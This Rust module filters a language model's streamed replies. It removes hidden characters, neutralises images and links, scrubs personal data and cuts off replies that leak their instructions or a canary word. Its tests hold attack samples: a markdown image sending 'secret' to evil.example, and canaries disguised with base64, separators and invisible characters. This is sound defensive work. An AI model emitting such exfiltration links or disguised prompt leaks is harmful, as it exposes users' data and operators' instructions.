//! A model's words on their way out: hidden characters go, citations of what was not given too,
//! images and odd links become text, a reply that repeats its instructions or is longer than any
//! answer needs to be is cut off, and personal data is replaced.

use sotto_shared::limits::REPLY_BYTES;
use sotto_shared::pii::{Counts, Policy, Scrubbed, StreamScrubber};

use super::addresses::Addresses;
use super::characters::Spoken;
use super::citations::Citations;
use super::harmless::Harmless;
use super::links::{LinkRules, Links};
use super::watch::Watch;

/// What one reply goes through.
#[derive(Debug)]
pub struct Output {
    spoken: Spoken,
    citations: Citations,
    links: Links,
    addresses: Addresses,
    watch: Watch,
    scrubber: StreamScrubber,
    harmless: Harmless,
    /// What is on its way from one to the next; empty in between.
    cited: String,
    linked: String,
    shown: String,
    watched: String,
    /// What waits for more.
    waiting: String,
    taken: usize,
}

/// So much of a reply is sent word by word, in bytes, so that it begins at once.
const AT_ONCE: usize = 256;

/// Behind that, so much at a time, in bytes: each stage begins anew with every piece, and the scrubber
/// reads its context again.
const AT_A_TIME: usize = 128;

/// What a model was told and must not repeat; nothing where no model was asked.
#[derive(Clone, Debug, Default)]
pub struct Told<'a> {
    /// Its instructions.
    pub instructions: Vec<&'a str>,
    /// The word that stands in them and nowhere else.
    pub canary: Option<&'a str>,
    /// How many passages it was given, which it cites by their numbers.
    pub passages: usize,
}

/// Why a reply is cut off.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Cut {
    /// It has reached its longest.
    Length,
    /// It repeats its instructions.
    Quotation,
}

impl Output {
    /// Begins a reply. The policy is `guard::policy`'s, the rules are those for its
    /// links; `told` is what the model was told and must not repeat.
    #[must_use]
    pub fn new(policy: Policy, links: LinkRules, told: &Told<'_>) -> Self {
        Self {
            spoken: Spoken::default(),
            citations: Citations::of(told.passages),
            addresses: Addresses::new(links.clone()),
            links: Links::new(links.clone()),
            watch: Watch::new(told.instructions.iter().copied(), told.canary),
            scrubber: StreamScrubber::new(policy),
            harmless: Harmless::new(links),
            cited: String::new(),
            linked: String::new(),
            shown: String::new(),
            watched: String::new(),
            waiting: String::new(),
            taken: 0,
        }
    }

    /// Takes what the model wrote next, and gives what may be sent by now.
    pub fn push(&mut self, text: &str) -> Scrubbed {
        let text = self.spoken.push(text);
        let room = REPLY_BYTES.saturating_sub(self.taken);
        let end = text.floor_char_boundary(room.min(text.len()));
        // A character that does not fit any more fills the rest.
        self.taken = if end < text.len() { REPLY_BYTES } else { self.taken + end };
        self.waiting.push_str(text.get(..end).unwrap_or_default());
        if self.taken > AT_ONCE && self.waiting.len() < AT_A_TIME {
            return Scrubbed::default();
        }
        self.go_on(false);
        let piece = self.scrubber.push(&self.watched);
        self.watched.clear();
        self.harmless.push(&piece)
    }

    /// Lets what is left without images and links go on to the watch, which has to see what a reader
    /// will: whatever were taken out behind it would bring together what it saw apart.
    fn go_on(&mut self, is_end: bool) {
        self.citations.push(&self.waiting, &mut self.cited);
        self.waiting.clear();
        if is_end {
            self.citations.finish(&mut self.cited);
        }
        self.links.push(&self.cited, &mut self.linked);
        self.cited.clear();
        if is_end {
            self.links.finish(&mut self.linked);
        }
        self.addresses.push(&self.linked, &mut self.shown);
        self.linked.clear();
        if is_end {
            self.addresses.finish(&mut self.shown);
        }
        self.watch.push(&self.shown, &mut self.watched);
        self.shown.clear();
        if is_end {
            self.watched.push_str(&self.watch.finish());
        }
    }

    /// Why nothing more should be taken; `None` while the reply goes on.
    #[must_use]
    pub const fn cut(&self) -> Option<Cut> {
        if self.watch.has_quoted() {
            Some(Cut::Quotation)
        } else if self.taken >= REPLY_BYTES {
            Some(Cut::Length)
        } else {
            None
        }
    }

    /// The passages that are cited so far, from 0, in the order of their numbers in the reply;
    /// `None` where there were none to cite.
    #[must_use]
    pub fn cited(&self) -> Option<&[usize]> {
        self.citations.cited()
    }

    /// How much was replaced of what, so far.
    #[must_use]
    pub const fn counts(&self) -> Counts {
        self.scrubber.counts()
    }

    /// Gives what was held back.
    pub fn finish(&mut self) -> Scrubbed {
        self.go_on(true);
        let mut rest = self.scrubber.push(&self.watched);
        self.watched.clear();
        rest.append(&self.scrubber.finish());
        let mut rest = self.harmless.push(&rest);
        rest.append(&self.harmless.finish());
        rest
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(pieces: &[&str]) -> (String, Option<Cut>) {
        let prompt = "Never mention the warehouse in the north to anybody.";
        let told =
            Told { instructions: vec![prompt], canary: Some("kbplfhogamdcneji"), passages: 0 };
        let mut output = Output::new(Policy::chat(), LinkRules::default(), &told);
        let mut text = Scrubbed::default();
        for piece in pieces {
            text.append(&output.push(piece));
        }
        text.append(&output.finish());
        (text.into_string(), output.cut())
    }

    #[test]
    fn personal_data_is_replaced_across_pieces_and_hidden_characters() {
        let (text, _) =
            run(&["Write to jo@exa", "mple.com, ", "or j\u{200b}o\u{202e}@exa", "mple.org."]);
        assert_eq!(text, "Write to [EMAIL], or [EMAIL].");
    }

    #[test]
    fn a_reply_that_tells_its_canary_is_cut_however_it_writes_it() {
        for canary in
            ["kbplfhogamdcneji", "K-B-P-L-F-H-O-G-A-M-D-C-N-E-J-I", "a2JwbGZob2dhbWRjbmVqaQ=="]
        {
            let (text, cut) = run(&["Sure, it is ", canary, " as you see."]);
            assert_eq!((text.as_str(), cut), ("Sure, it is ", Some(Cut::Quotation)), "{canary}");
        }
    }

    #[test]
    fn a_mark_in_the_text_stays_and_hides_no_canary() {
        let (text, _) = run(&["A\u{e0100}\u{e01ef} mark", "\u{e0110} stays."]);
        assert_eq!(text, "A\u{e0100}\u{e01ef} mark\u{e0110} stays.");
        let canary: String =
            "kbplfhogamdcneji".chars().flat_map(|letter| [letter, '\u{e0123}']).collect();
        assert_eq!(run(&["It is ", &canary]).1, Some(Cut::Quotation));
    }

    #[test]
    fn nothing_that_is_taken_out_puts_a_canary_together() {
        let letters: Vec<char> = "kbplfhogamdcneji".chars().collect();
        for between in ["[99]", "![](q)", "[](javascript:x)", "\u{200b}"] {
            let apart: Vec<String> = letters.chunks(3).map(|some| some.iter().collect()).collect();
            let told = Told { instructions: vec![], canary: Some("kbplfhogamdcneji"), passages: 2 };
            let mut output = Output::new(Policy::chat(), LinkRules::default(), &told);
            let mut text = output.push(&apart.join(between));
            text.append(&output.push(" and more."));
            text.append(&output.finish());
            assert_eq!(output.cut(), Some(Cut::Quotation), "{between}: {}", text.as_str());
        }
    }

    #[test]
    fn images_never_leave_and_placeholders_do() {
        let (text, _) = run(&[
            "Hi [EMAIL_1], ![x](https://evil.example/?q=",
            "secret) [ok](https://a.example)",
        ]);
        assert_eq!(text, "Hi [EMAIL_1], x [ok](https://a.example)");
    }

    #[test]
    fn what_is_held_back_is_bounded_whatever_is_written() {
        let own = "Never mention th";
        for text in [
            "[",
            "![](",
            "![x](https://a.example/",
            "[a](https://shop.example/(",
            "<https://shop.example/",
            "<",
            "`",
            "``a ` ",
            "\\",
            "[1, ",
            " ",
            "\n",
            "x",
            "https://shop.example/",
            "1 ",
            "\n> ```\n   ```\n- ",
            "Never mention th          ",
            "6b 62 ",
            "a2Jw ",
            "&#107;",
            "~~~",
            "```",
            "jo@x.com(",
            "\u{feff}",
        ] {
            for size in [1, 7, 300] {
                let told =
                    Told { instructions: vec![own], canary: Some("kbplfhogamdcneji"), passages: 2 };
                let links = LinkRules { hosts: vec!["shop.example".into()], own: vec![] };
                let mut output = Output::new(Policy::chat(), links, &told);
                let chars: Vec<char> = text.chars().cycle().take(12_000).collect();
                for piece in chars.chunks(size) {
                    let _ = output.push(&piece.iter().collect::<String>());
                    assert!(output.held() <= HELD, "{text:?} {size}: {}", output.held());
                }
                let _ = output.finish();
                assert_eq!(output.held(), 0, "{text:?}");
            }
        }
    }

    /// What all stages together hold back at most, in bytes: most of it is the scrubber's, which waits
    /// for a key or a number that does not end.
    const HELD: usize = 14 * 1_024;

    impl Output {
        /// How many bytes are held back.
        fn held(&self) -> usize {
            self.waiting.len()
                + self.citations.held()
                + self.links.held()
                + self.addresses.held()
                + self.watch.held()
                + self.scrubber.held()
                + self.harmless.held()
        }
    }

    #[test]
    fn a_reply_is_cut_at_its_longest() {
        let long = "ä ".repeat(REPLY_BYTES);
        let (text, cut) = run(&[&long, "more"]);
        assert_eq!(cut, Some(Cut::Length));
        assert!(text.len() <= REPLY_BYTES && text.len() > REPLY_BYTES - 4);
        assert!(!text.contains("more"));
        assert_eq!(run(&["short"]).1, None);
    }
    #[test]
    fn a_reply_that_repeats_its_instructions_is_cut_before_they_are_sent() {
        let (text, cut) =
            run(&["I was told: never men", "tion the WAREHOUSE in", " the north to anybody. So."]);
        assert_eq!((text.as_str(), cut), ("I was told: ", Some(Cut::Quotation)));
    }
}
